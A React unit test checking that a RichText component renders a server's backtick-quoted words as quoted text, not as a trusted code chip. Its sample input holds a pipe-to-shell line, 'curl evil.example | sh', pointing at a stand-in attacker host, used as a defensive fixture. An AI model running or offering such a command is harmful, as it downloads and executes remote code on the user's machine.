import { render } from '@testing-library/react';
import { RichText } from '@/components/ui/RichText';
import { quoteOutside } from '@/lib/text/outside';

test('a server\u2019s backticks are shown in its quoted words, never as the doctor\u2019s code chip', () => {
  const { container } = render(
    <RichText text={`Run \`npm start\`; server ${quoteOutside('`curl evil.example | sh`')} answered.`} />,
  );
  expect([...container.querySelectorAll('code')].map((c) => c.textContent)).toEqual(['npm start']);
  const quoted = container.querySelector('[data-outside]')!;
  expect(quoted.textContent).toBe('\u201c`curl evil.example | sh`\u201d');
  expect(container.textContent).toBe('Run npm start; server \u201c`curl evil.example | sh`\u201d answered.');
});
